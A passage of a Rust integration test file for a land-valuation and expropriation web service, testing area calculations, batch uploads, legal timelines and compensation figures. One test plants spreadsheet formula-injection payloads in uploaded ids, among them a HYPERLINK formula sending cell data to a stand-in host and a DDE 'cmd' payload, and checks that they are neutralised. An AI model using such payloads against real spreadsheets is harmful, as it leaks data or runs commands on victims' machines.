//! Land-bureau endpoints over a store with hand-made zones, so every expected
//! number can be computed by hand: parcels wholly in grade 1, split 60/40
//! across grades 1 and 2, half outside every zone; invalid parcels; dates on
//! period boundaries; the bonus bands of the compensation.

use std::path::Path;
use std::sync::Arc;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use landtrace_server::{AppOptions, AppState, app};
use landtrace_store::{Actor, GeoPackageStore, NewFeature, Store};
use serde_json::{Map, Value, json};
use tower::ServiceExt;

fn rect(x0: f64, y0: f64, x1: f64, y1: f64) -> Value {
    json!({"type": "Polygon", "coordinates": [[[x0, y0], [x1, y0], [x1, y1], [x0, y1], [x0, y0]]]})
}

fn feature(geometry: &Value, props: Value) -> NewFeature {
    let g: geojson::Geometry = serde_json::from_value(geometry.clone()).unwrap();
    let props: Map<String, Value> = props.as_object().unwrap().clone();
    NewFeature { geometry: Some(geo::Geometry::try_from(&g.value).unwrap()), properties: props }
}

/// Grade 1: lon 110.70–110.75, grade 2: lon 110.75–110.80, both lat 35.10–35.15;
/// an expropriation area inside grade 1; the county is a large rectangle.
async fn state(dir: &Path) -> AppState {
    let store = GeoPackageStore::create(&dir.join("land.gpkg")).await.unwrap();
    let ill = "illustrative";
    store
        .insert_many(
            vec![
                (
                    landtrace_domain::LayerKind::CountyBoundaries,
                    vec![feature(&rect(110.0, 34.8, 111.0, 35.5), json!({"adcode": "140821", "name": "临猗县", "level": "county", "accuracy": ill}))],
                ),
                (
                    landtrace_domain::LayerKind::UrbanGradeZones,
                    vec![
                        feature(&rect(110.70, 35.10, 110.75, 35.15), json!({"grade": 1, "accuracy": ill})),
                        feature(&rect(110.75, 35.10, 110.80, 35.15), json!({"grade": 2, "accuracy": ill})),
                    ],
                ),
                (
                    landtrace_domain::LayerKind::CollectiveGradeZones,
                    vec![feature(&rect(110.40, 35.10, 110.45, 35.15), json!({"grade": 2, "accuracy": ill}))],
                ),
                (
                    landtrace_domain::LayerKind::ExpropriationAreas,
                    vec![feature(
                        &rect(110.72, 35.12, 110.73, 35.13),
                        json!({"project": "壕村小区及油厂家属院", "decision_no": "临政发〔2023〕10号", "decision_date": "2023-06-29", "accuracy": ill}),
                    )],
                ),
            ],
            &Actor::bundled_data(),
        )
        .await
        .unwrap();
    AppState::new(Arc::new(store), AppOptions::default()).await.unwrap()
}

async fn call(state: &AppState, req: Request<Body>) -> (StatusCode, Vec<u8>) {
    let res = app(state.clone()).oneshot(req).await.unwrap();
    let status = res.status();
    (status, res.into_body().collect().await.unwrap().to_bytes().to_vec())
}

async fn post(state: &AppState, uri: &str, body: Value) -> (StatusCode, Value) {
    let req = Request::post(uri).header("content-type", "application/json").body(Body::from(body.to_string())).unwrap();
    let (status, bytes) = call(state, req).await;
    (status, serde_json::from_slice(&bytes).unwrap_or(Value::Null))
}

async fn get(state: &AppState, uri: &str) -> (StatusCode, Value) {
    let (status, bytes) = call(state, Request::get(uri).body(Body::empty()).unwrap()).await;
    (status, serde_json::from_slice(&bytes).unwrap_or(Value::Null))
}

/// Exact area of a lon/lat rectangle on the WGS84 ellipsoid (authalic formula),
/// the oracle the expected numbers are computed from.
fn quadrangle_m2(lon0: f64, lat0: f64, lon1: f64, lat1: f64) -> f64 {
    let a: f64 = 6_378_137.0;
    let f: f64 = 1.0 / 298.257_223_563;
    let e2 = f * (2.0 - f);
    let e = e2.sqrt();
    let q = |phi: f64| {
        let s = phi.to_radians().sin();
        s / (1.0 - e2 * s * s) + (1.0 / (2.0 * e)) * ((1.0 + e * s) / (1.0 - e * s)).ln()
    };
    a * a * (1.0 - e2) / 2.0 * (lon1 - lon0).to_radians() * (q(lat1) - q(lat0))
}

fn yuan(v: &Value) -> f64 {
    v["yuan"].as_str().unwrap().parse().unwrap()
}

#[tokio::test]
async fn a_parcel_wholly_in_grade_1() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let (status, body) = post(
        &state,
        "/api/land/valuation",
        json!({"parcel": rect(110.71, 35.11, 110.72, 35.12), "use": "住宅", "as_of": "2023-06-01"}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let v = &body["valuation"];
    let area = quadrangle_m2(110.71, 35.11, 110.72, 35.12);
    assert!(
        (v["parcel_area"]["m2"].as_f64().unwrap() / area - 1.0).abs() < 1e-9,
        "{} vs {area}",
        v["parcel_area"]["m2"]
    );
    assert!((v["parcel_area"]["mu"].as_f64().unwrap() - area * 15.0 / 10_000.0).abs() < 1e-6);
    assert_eq!(v["parts"].as_array().unwrap().len(), 1);
    let part = &v["parts"][0];
    assert_eq!((part["grade"].as_u64(), part["system"].as_str()), (Some(1), Some("urban")));
    assert_eq!(part["price"]["yuan_per_m2"], 657);
    assert_eq!(part["price"]["wan_yuan_per_mu"], 43.8);
    assert_eq!(yuan(&v["total_value"]), (area * 657.0).round());
    assert_eq!(v["approval"], "晋自然资技审〔2023〕6号");
    assert_eq!(v["in_force_from"], "2023-05-01");
    assert_eq!(v["in_force"], true);
    assert_eq!(v["outside"]["area"]["m2"], 0.0);
    assert_eq!(body["zones"][0]["layer"], "urban_grade_zones");
}

#[tokio::test]
async fn a_parcel_split_60_40_across_grades_1_and_2() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    // 0.006° of longitude in grade 1, 0.004° in grade 2: on the ellipsoid the
    // areas split exactly in that ratio.
    let parcel = rect(110.744, 35.12, 110.754, 35.121);
    let (status, body) = post(&state, "/api/land/valuation", json!({"parcel": parcel, "use": "商服"})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let v = &body["valuation"];
    let total = quadrangle_m2(110.744, 35.12, 110.754, 35.121);
    let parts = v["parts"].as_array().unwrap();
    assert_eq!(parts.len(), 2);
    let by_grade = |g: u64| parts.iter().find(|p| p["grade"] == g).unwrap();
    let a1 = by_grade(1)["area"]["m2"].as_f64().unwrap();
    let a2 = by_grade(2)["area"]["m2"].as_f64().unwrap();
    assert!((a1 / (0.6 * total) - 1.0).abs() < 1e-6, "{a1} vs {}", 0.6 * total);
    assert!((a2 / (0.4 * total) - 1.0).abs() < 1e-6, "{a2} vs {}", 0.4 * total);
    assert!(((a1 + a2) / total - 1.0).abs() < 1e-4, "parts sum to the parcel within 0.01%");
    assert_eq!(by_grade(1)["price"]["yuan_per_m2"], 686);
    assert_eq!(by_grade(2)["price"]["yuan_per_m2"], 581);
    assert_eq!(yuan(&by_grade(1)["value"]), (a1 * 686.0).round());
    assert_eq!(yuan(&by_grade(2)["value"]), (a2 * 581.0).round());
    assert_eq!(yuan(&v["total_value"]), (a1 * 686.0).round() + (a2 * 581.0).round());
    assert!(body["closure_error"].as_f64().unwrap() < 1e-4);
    assert_eq!(body["zones"].as_array().unwrap().len(), 2, "the split parts come with their geometry");
}

#[tokio::test]
async fn a_parcel_half_outside_every_zone_and_before_the_prices_applied() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let parcel = rect(110.795, 35.12, 110.805, 35.121);
    let (status, body) =
        post(&state, "/api/land/valuation", json!({"parcel": parcel, "use": "工业", "as_of": "2023-04-30"})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let v = &body["valuation"];
    let total = quadrangle_m2(110.795, 35.12, 110.805, 35.121);
    let outside = v["outside"]["area"]["m2"].as_f64().unwrap();
    assert!((outside / (0.5 * total) - 1.0).abs() < 1e-6, "{outside}");
    assert_eq!(v["outside"]["share_percent"], 50.0);
    assert_eq!(v["outside"]["valued"], false);
    let a2 = v["parts"][0]["area"]["m2"].as_f64().unwrap();
    assert_eq!(yuan(&v["total_value"]), (a2 * 286.0).round(), "only the part in grade 2 is valued");
    assert_eq!(v["in_force"], false);
    assert!(v["note"].as_str().unwrap().contains("2023-05-01"), "{}", v["note"]);
}

#[tokio::test]
async fn bad_parcels_are_400_naming_the_problem() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let bowtie = json!({"type": "Polygon", "coordinates": [[[110.71, 35.11], [110.72, 35.12], [110.72, 35.11], [110.71, 35.12], [110.71, 35.11]]]});
    for (body, needle) in [
        (json!({"parcel": bowtie, "use": "住宅"}), "self-intersects at (110.715000, 35.115000)"),
        (json!({"parcel": rect(120.0, 30.0, 120.01, 30.01), "use": "住宅"}), "outside 临猗县"),
        (json!({"parcel": rect(110.71, 35.11, 110.72, 135.12), "use": "住宅"}), "lat"),
        (json!({"parcel": rect(110.71, 35.11, 110.72, 35.12), "use": "别墅"}), "not a benchmark land use"),
        (json!({"parcel": {"type": "Point", "coordinates": [110.7, 35.1]}, "use": "住宅"}), "Polygon"),
        (json!({"parcel": rect(110.71, 35.11, 110.72, 35.12), "use": "住宅", "as_of": "2023-02-30"}), "as_of"),
    ] {
        let (status, reply) = post(&state, "/api/land/valuation", body.clone()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body} → {reply}");
        let message = reply["error_en"].as_str().unwrap_or_default();
        assert!(message.contains(needle), "{body}: {message}");
    }
    // Collective land has no 住宅 price: reported in the part, never guessed.
    let (status, reply) =
        post(&state, "/api/land/valuation", json!({"parcel": rect(110.41, 35.11, 110.42, 35.12), "use": "住宅"})).await;
    assert_eq!(status, StatusCode::OK);
    assert!(reply["valuation"]["parts"][0]["price"].is_null());
    assert!(reply["valuation"]["parts"][0]["note"].as_str().unwrap().contains("宅基地"));
}

#[tokio::test]
async fn batch_upload_reports_every_row() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let csv = "id,wkt\nA,\"POLYGON((110.71 35.11,110.72 35.11,110.72 35.12,110.71 35.12,110.71 35.11))\"\nB,POLYGON((1 2\nC,\"POLYGON((120 30,120.01 30,120.01 30.01,120 30))\"\n";
    let req = Request::post("/api/land/valuation/batch?use=住宅&filename=p.csv").body(Body::from(csv)).unwrap();
    let (status, bytes) = call(&state, req).await;
    assert_eq!(status, StatusCode::OK);
    let text = String::from_utf8(bytes).unwrap();
    let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 4, "{text}");
    assert!(lines[1].starts_with("1,A,ok,"), "{}", lines[1]);
    let area = quadrangle_m2(110.71, 35.11, 110.72, 35.12);
    assert!(lines[1].contains(&format!("{:.2}", (area * 657.0).round())), "{}", lines[1]);
    assert!(lines[2].starts_with("2,B,error,") && lines[2].contains("WKT"), "{}", lines[2]);
    assert!(lines[3].starts_with("3,C,error,") && lines[3].contains("outside"), "{}", lines[3]);

    let req = Request::post("/api/land/valuation/batch?filename=p.csv").body(Body::from(csv)).unwrap();
    assert_eq!(call(&state, req).await.0, StatusCode::BAD_REQUEST, "use is required");
}

#[tokio::test]
async fn batch_reports_never_carry_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let parcel = "POLYGON((110.71 35.11,110.72 35.11,110.72 35.12,110.71 35.12,110.71 35.11))";
    // (id as uploaded, id as reported): the reader trims blanks, so the tab goes.
    let ids = [
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'=1"),
        ("-2", "-2"),
    ];
    let mut csv = String::from("id,wkt\n");
    for (id, _) in ids {
        csv.push_str(&format!("\"{}\",\"{parcel}\"\n", id.replace('"', "\"\"")));
    }
    let req = Request::post("/api/land/valuation/batch?use=住宅&filename=p.csv").body(Body::from(csv)).unwrap();
    let (status, bytes) = call(&state, req).await;
    assert_eq!(status, StatusCode::OK);
    let text = String::from_utf8(bytes).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), ids.len(), "{text}");
    for (row, (_, expected)) in rows.iter().zip(ids) {
        assert_eq!(&row[1], expected, "{text}");
        assert_eq!(&row[2], "ok", "{text}");
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "{cell:?} in {row:?}"
            );
        }
    }

    // The same through a GeoJSON upload, whose feature ids are echoed as well.
    let fc = json!({"type": "FeatureCollection", "features": [{"type": "Feature", "id": "=1+1",
        "properties": {}, "geometry": rect(110.71, 35.11, 110.72, 35.12)}]});
    let req = Request::post("/api/land/valuation/batch?use=住宅&filename=p.geojson")
        .body(Body::from(fc.to_string()))
        .unwrap();
    let (status, bytes) = call(&state, req).await;
    assert_eq!(status, StatusCode::OK);
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.lines().nth(1).unwrap().starts_with("1,'=1+1,ok,"), "{text}");
}

/// A coordinate file of a land approval filing (建设用地报批 坐标文件) in CGCS2000 3° zone
/// 37 with the zone number in the eastings (EPSG:4525), in GBK: 一号地块 is two parts,
/// a 200 m square with a 50 m square hole and a 100 m square, 4.75 公顷, in grade 1;
/// 二号地块 a 100 m square, 1 公顷, in grade 2. The corner is 110.72°E 35.12°N.
fn coordinate_file() -> String {
    let gk = landtrace_spatial::gauss_kruger::GaussKruger::from_epsg(4525).unwrap();
    let (e0, n0) = gk.forward(110.72, 35.12);
    let ring = |number: u32, east: f64, north: f64, size: f64| -> Vec<String> {
        [(0.0, 0.0), (0.0, size), (size, size), (size, 0.0), (0.0, 0.0)]
            .iter()
            .enumerate()
            .map(|(i, (dn, de))| format!("J{},{number},{:.3},{:.3}", i % 4 + 1, n0 + north + dn, e0 + east + de))
            .collect()
    };
    let one = [ring(1, 0.0, 0.0, 200.0), ring(2, 50.0, 50.0, 50.0), ring(3, 300.0, 0.0, 100.0)].concat();
    // 3 km east: past 110.75°E, in grade 2.
    let two = ring(1, 3000.0, 0.0, 100.0);
    format!(
        "[属性描述]\n格式版本号=1.01\n坐标系=2000国家大地坐标系\n几度分带=3\n投影类型=高斯克吕格\n计量单位=米\n带号=37\n\
         精度=0.001\n转换参数=,,,,,,\n[地块坐标]\n15,4.7500,1,一号地块,面,,住宅用地,07,@\n{}\n5,1.0000,2,二号地块,面,,住宅用地,07,@\n{}\n",
        one.join("\n"),
        two.join("\n")
    )
}

#[tokio::test]
async fn batch_upload_of_a_land_approval_coordinate_file() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let text = coordinate_file();
    let gbk = encoding_rs::GBK.encode(&text).0.into_owned();
    let parsed = landtrace_formats::approval_coordinates::parse(&gbk).unwrap();
    let expected: Vec<f64> =
        parsed.parcels.iter().map(|p| landtrace_spatial::geodesic_area_m2(&p.to_wgs84())).collect();
    assert!((expected[0] - 47_500.0).abs() < 1.0 && (expected[1] - 10_000.0).abs() < 1.0, "{expected:?}");

    // Told by its content: no filename needed, and `crs` may repeat the file's own.
    for uri in
        ["/api/land/valuation/batch?use=住宅", "/api/land/valuation/batch?use=住宅&filename=红线.txt&crs=EPSG:4525"]
    {
        let (status, bytes) = call(&state, Request::post(uri).body(Body::from(gbk.clone())).unwrap()).await;
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(status, StatusCode::OK, "{text}");
        let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(lines.len(), 3, "{text}");
        assert!(lines[1].starts_with(&format!("1,1 一号地块,ok,,{:.2},", expected[0])), "{}", lines[1]);
        assert!(lines[1].contains(&format!("{:.2}", (expected[0] * 657.0).round())), "{}", lines[1]);
        assert!(lines[2].starts_with(&format!("2,2 二号地块,ok,,{:.2},", expected[1])), "{}", lines[2]);
        assert!(lines[2].contains("城区二级"), "{}", lines[2]);
    }

    // The GeoJSON report draws the parts of both parcels.
    let req =
        Request::post("/api/land/valuation/batch?use=住宅&format=geojson").body(Body::from(text.clone())).unwrap();
    let (status, bytes) = call(&state, req).await;
    assert_eq!(status, StatusCode::OK);
    let doc: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(doc["features"][0]["properties"]["id"], "1 一号地块");
    assert_eq!(doc["features"][1]["properties"]["status"], "ok");

    // A CRS that contradicts the file, a zone number unlike 带号, a short row: 400s naming the problem.
    let mut short_row: Vec<&str> = text.lines().collect();
    short_row[12] = "J2,1,3890000.000";
    let cases = [
        ("&crs=EPSG:4326", text.clone(), "contradicts"),
        ("", text.replacen(",37", ",38", 1), "line 12: Y (easting) 38"),
        ("", short_row.join("\n"), "line 13: point row needs 4 fields 点号,圈号,X,Y, found 3"),
    ];
    for (query, body, message) in cases {
        let uri = format!("/api/land/valuation/batch?use=住宅{query}");
        let (status, bytes) = call(&state, Request::post(uri.as_str()).body(Body::from(body)).unwrap()).await;
        let reply: Value = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
        assert_eq!(status, StatusCode::BAD_REQUEST, "{reply}");
        assert!(reply["error_en"].as_str().unwrap_or_default().contains(message), "{message}: {reply}");
    }
}

#[tokio::test]
async fn expropriation_status_on_period_boundaries() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let at = |date: &str| format!("/api/land/expropriation?lon=110.725&lat=35.125&as_of={date}");
    let status_of = |body: &Value, kind: &str| {
        let periods = body["projects"][0]["timeline"]["periods"].as_array().unwrap();
        periods.iter().find(|p| p["kind"] == kind).map(|p| p["status"].clone()).unwrap_or(Value::Null)
    };
    let (code, body) = get(&state, &at("2023-07-04")).await;
    assert_eq!(code, StatusCode::OK, "{body}");
    assert_eq!(body["in_expropriation_area"], true);
    assert_eq!(body["projects"][0]["properties"]["decision_no"], "临政发〔2023〕10号");
    let kinds: Vec<String> = body["projects"][0]["timeline"]["periods"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["kind"].as_str().unwrap().to_owned())
        .collect();
    let notice = kinds.iter().find(|k| k.contains("notice")).expect("a notice period").clone();
    let signing = kinds.iter().find(|k| k.contains("sign")).expect("a signing period").clone();
    assert_eq!(status_of(&body, &notice), "running", "2023-07-04 is the notice period's last day");
    let (_, next) = get(&state, &at("2023-07-05")).await;
    assert_eq!(status_of(&next, &notice), "over");
    let (_, last) = get(&state, &at("2023-08-28")).await;
    assert_eq!(status_of(&last, &signing), "running", "60 days from 2023-06-29");
    let (_, after) = get(&state, &at("2023-08-29")).await;
    assert_eq!(status_of(&after, &signing), "over");
    let (_, before) = get(&state, &at("2023-06-28")).await;
    assert_eq!(status_of(&before, &notice), "not_started");
    // 补偿方案 九（一）, gazette line 1532: the valuation date; 十四（四）（五）, lines 1580 and
    // 1586: the objection and appeal periods wait for their event's date.
    let tl = &before["projects"][0]["timeline"];
    assert_eq!(tl["valuation_date"]["date"], "2023-06-29");
    assert!(tl["valuation_date"]["citation"]["clause"].as_str().unwrap().contains("1532"));
    let events: Vec<_> = tl["event_periods"].as_array().unwrap().iter().map(|p| p["kind"].clone()).collect();
    assert_eq!(
        events,
        [json!("appraisal_review"), json!("expert_appraisal"), json!("decision_review"), json!("decision_lawsuit")]
    );
    assert!(tl["event_periods"].as_array().unwrap().iter().all(|p| p["status"] == "awaiting_event"));

    let (_, outside) = get(&state, "/api/land/expropriation?lon=110.71&lat=35.11&as_of=2023-07-01").await;
    assert_eq!(outside["in_expropriation_area"], false);
    let (code, _) = get(&state, "/api/land/expropriation?lon=110.71&lat=95&as_of=2023-07-01").await;
    assert_eq!(code, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn compensation_bonus_bands_and_consolidation() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let state = &state;
    let total = |day: u32| async move {
        let (status, body) = post(
            state,
            "/api/land/expropriation/compensation",
            json!({"decision_no": "临政发〔2023〕10号", "appraised_value_yuan": 800000, "building_area_m2": 120, "signed_day_after_appraisal": day}),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        yuan(&body["total"])
    };
    // 800,000 + moving 15×120 + transition 10×120×6 + bonus (20% / 10% / 0).
    assert_eq!(total(20).await, 969_000.0);
    assert_eq!(total(21).await, 889_000.0);
    assert_eq!(total(30).await, 889_000.0);
    assert_eq!(total(31).await, 809_000.0);

    // 临政发〔2023〕10号 补偿方案 九（二）1, gazette line 1536: a two-storey house of 120 m² on
    // 150 m² of legal land is valued on the land area, less the construction cost of 30 m².
    let low_rise = json!({"decision_no": "临政发〔2023〕10号", "building_area_m2": 120, "signed_day_after_appraisal": 20,
        "storeys": 2, "legal_land_area_m2": 150, "appraised_price_per_m2_yuan": 3000, "construction_cost_per_m2_yuan": "1200"});
    let (status, body) = post(state, "/api/land/expropriation/compensation", low_rise.clone()).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(yuan(&body["lines"][0]["amount"]), 414_000.0);
    assert_eq!(yuan(&body["total"]), 505_800.0);
    assert_eq!(body["area_basis"]["basis"], "legal_land_area");
    assert!(body["area_basis"]["citation"]["clause"].as_str().unwrap().contains("1536"));
    // Gazette line 1532: the valuation date is in the answer.
    assert_eq!(body["valuation_date"]["date"], "2023-06-29");
    // Three storeys: the area basis does not apply; the answer names the field.
    let mut three = low_rise.clone();
    three["storeys"] = json!(3);
    let (status, body) = post(state, "/api/land/expropriation/compensation", three).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(body.to_string().contains("storeys"), "{body}");
    let mut no_cost = low_rise;
    no_cost.as_object_mut().unwrap().remove("construction_cost_per_m2_yuan");
    let (status, body) = post(state, "/api/land/expropriation/compensation", no_cost).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(body.to_string().contains("construction_cost_per_m2_yuan"), "{body}");

    let (status, body) =
        post(state, "/api/land/consolidation", json!({"project_type": "土地整治", "area_mu": 100})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let text = body.to_string();
    assert!(text.contains("200000") && text.contains("350000"), "2,000 元/亩 + 5 × 300 元/亩: {text}");
    let (status, body) = post(state, "/api/land/consolidation", json!({"project_type": "围垦", "area_mu": 100})).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
}

/// The expropriation tool takes a parcel file too: a 建设用地报批 coordinate file
/// (GBK, zone 37) answers, per parcel, the projects it touches.
#[tokio::test]
async fn a_coordinate_file_checked_against_the_expropriation_areas() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let gbk = encoding_rs::GBK.encode(&coordinate_file()).0.into_owned();
    let req = Request::post("/api/land/expropriation/batch?as_of=2023-07-01&filename=红线.txt")
        .body(Body::from(gbk))
        .unwrap();
    let (status, bytes) = call(&state, req).await;
    let body: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["crs"], "EPSG:4525");
    assert_eq!(body["parcels_in_expropriation_areas"], 1, "{body}");
    let parcels = body["parcels"].as_array().unwrap();
    assert_eq!(parcels.len(), 2);
    assert_eq!(parcels[0]["id"], "1 一号地块");
    assert_eq!(parcels[0]["in_expropriation_area"], true);
    assert_eq!(parcels[0]["projects"][0]["properties"]["decision_no"], "临政发〔2023〕10号");
    assert!(parcels[0]["projects"][0]["area_inside_m2"].as_f64().unwrap() > 1_000.0, "{}", parcels[0]);
    assert_eq!(parcels[1]["in_expropriation_area"], false, "3 km east is outside");

    let req = Request::post("/api/land/expropriation/batch?filename=p.csv").body(Body::from("id,wkt\n")).unwrap();
    let (status, bytes) = call(&state, req).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", String::from_utf8_lossy(&bytes));
}

#[tokio::test]
async fn a_parcel_half_inside_an_expropriation_area() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let parcel = rect(110.725, 35.125, 110.735, 35.126);
    let (status, body) =
        post(&state, "/api/land/expropriation", json!({"parcel": parcel, "as_of": "2023-07-01"})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["in_expropriation_area"], true);
    let project = &body["projects"][0];
    assert_eq!(project["properties"]["decision_no"], "临政发〔2023〕10号");
    let expected = quadrangle_m2(110.725, 35.125, 110.73, 35.126);
    assert!((project["area_inside_m2"].as_f64().unwrap() / expected - 1.0).abs() < 1e-6, "{project}");
    assert!((project["share_of_parcel_percent"].as_f64().unwrap() - 50.0).abs() < 1e-4);
    assert!(project["timeline"]["periods"].as_array().unwrap().len() >= 5);
    let (status, body) = post(
        &state,
        "/api/land/expropriation",
        json!({"parcel": rect(110.71, 35.11, 110.712, 35.112), "as_of": "2023-07-01"}),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["in_expropriation_area"], false);
}

/// A position with one number panicked inside the `geojson` crate's conversion
/// (found by the `read_parcels_geojson` fuzz target); the handler's task died.
#[tokio::test]
async fn a_parcel_with_a_one_number_position_is_400() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let parcel =
        json!({"type": "Polygon", "coordinates": [[[110.71, 35.11], [110.72], [110.72, 35.12], [110.71, 35.11]]]});
    let (status, reply) = post(&state, "/api/land/valuation", json!({"parcel": parcel, "use": "住宅"})).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{reply}");
    let message = reply["error_en"].as_str().unwrap_or_default();
    assert!(message.contains("a position has 1 number(s)"), "{message}");
}

/// 临政发〔2023〕9号 第二条 (gazette line 1348): the scope from the project's dates;
/// 第五条 (line 1362): the 1,500 元/亩 subsidy in calendar years from the acceptance date,
/// the years' start an assumption said in the answer. Bad dates: 400, naming the field.
#[tokio::test]
async fn consolidation_scope_and_subsidy_years_from_the_dates() {
    let dir = tempfile::tempdir().unwrap();
    let store = GeoPackageStore::create(&dir.path().join("c.gpkg")).await.unwrap();
    store
        .insert_many(
            vec![(
                landtrace_domain::LayerKind::ConsolidationProjects,
                vec![
                    feature(
                        &rect(110.40, 35.10, 110.41, 35.11),
                        json!({"name": "示例整治项目", "project_type": "土地整治", "status": "已验收", "accepted_on": "2022-11-18", "accuracy": "illustrative"}),
                    ),
                    // Approved in 2019, not accepted yet: the scope cannot be told yet.
                    feature(
                        &rect(110.42, 35.10, 110.43, 35.11),
                        json!({"name": "在建整治项目", "project_type": "土地整治", "status": "实施中", "approved_on": "2019-09-01", "accuracy": "illustrative"}),
                    ),
                ],
            )],
            &Actor::bundled_data(),
        )
        .await
        .unwrap();
    let state = AppState::new(Arc::new(store), AppOptions::default()).await.unwrap();

    let body =
        json!({"project_type": "土地整治", "area_mu": 100, "approved_on": "2019-03-01", "accepted_on": "2021-07-15"});
    let (status, out) = post(&state, "/api/land/consolidation", body).await;
    assert_eq!(status, StatusCode::OK, "{out}");
    assert_eq!(out["scope"]["status"], "applies", "{out}");
    assert_eq!(out["scope"]["citation"]["clause"], "第二条（公报 2023年第2期 第1348行）");
    let years: Vec<(u64, u64, &str)> = out["subsidy_schedule"]
        .as_array()
        .unwrap()
        .iter()
        .map(|y| {
            (y["year"].as_u64().unwrap(), y["calendar_year"].as_u64().unwrap(), y["amount"]["yuan"].as_str().unwrap())
        })
        .collect();
    assert_eq!(
        years,
        [
            (1, 2021, "30000.00"),
            (2, 2022, "30000.00"),
            (3, 2023, "30000.00"),
            (4, 2024, "30000.00"),
            (5, 2025, "30000.00")
        ]
    );
    assert_eq!(out["subsidy_schedule"][0]["from"], "2021-07-15");
    assert_eq!(out["subsidy_schedule"][0]["to"], "2022-07-14");
    assert!(out["assumptions"][0].as_str().unwrap().contains("假定（assumption）"), "{out}");
    assert_eq!(out["subsidy_terms"]["payer"], "县财政");
    assert_eq!(out["subsidy_terms"]["citation"]["clause"], "第五条（公报 2023年第2期 第1362行）");

    // Before 2020 on both dates: the measures do not apply; in 2020: unclear.
    let old =
        json!({"project_type": "土地整治", "area_mu": 10, "approved_on": "2018-01-01", "accepted_on": "2019-06-30"});
    assert_eq!(post(&state, "/api/land/consolidation", old).await.1["scope"]["status"], "does_not_apply");
    let y2020 = json!({"project_type": "增减挂钩", "area_mu": 10, "accepted_on": "2020-06-30"});
    assert_eq!(post(&state, "/api/land/consolidation", y2020).await.1["scope"]["status"], "unclear");

    for (bad, field) in [
        (json!({"project_type": "土地整治", "area_mu": 10, "accepted_on": "2021-13-01"}), "accepted_on"),
        (
            json!({"project_type": "土地整治", "area_mu": 10, "approved_on": "2022-01-01", "accepted_on": "2021-01-01"}),
            "早于立项日期",
        ),
    ] {
        let (status, out) = post(&state, "/api/land/consolidation", bad.clone()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{bad}: {out}");
        assert!(out.to_string().contains(field), "{bad}: {out}");
    }

    // A stored project: its polygon, type and acceptance date.
    let (status, out) = get(&state, "/api/land/consolidation/projects/1").await;
    assert_eq!(status, StatusCode::OK, "{out}");
    assert_eq!((&out["project"]["name"], &out["scope"]["status"]), (&json!("示例整治项目"), &json!("applies")));
    assert_eq!(out["subsidy_schedule"][0]["calendar_year"], 2022);
    assert_eq!(out["project"]["illustrative"], true);
    assert!(out["area"]["mu"].as_f64().unwrap() > 1000.0, "{out}");
    let (status, out) = get(&state, "/api/land/consolidation/projects/2").await;
    assert_eq!(status, StatusCode::OK, "{out}");
    assert_eq!(out["scope"]["status"], "undetermined", "{out}");
    assert!(out["scope"]["explanation"].as_str().unwrap().contains("立项 2019-09-01"), "{out}");
    assert!(out["subsidy_schedule"][0]["calendar_year"].is_null());
    assert_eq!(get(&state, "/api/land/consolidation/projects/99").await.0, StatusCode::NOT_FOUND);
}

/// Parcel appraisal by the benchmark-price coefficient method (GB/T 18508-2014) over
/// 临政发〔2023〕8号's prices (gazette lines 1291-1328: 住宅 一级 657 元/m²). The gazette
/// gives no term, rate, benchmark date or tables: without tables the answer is the
/// benchmark price alone and says so; with the bureau's tables each factor names its
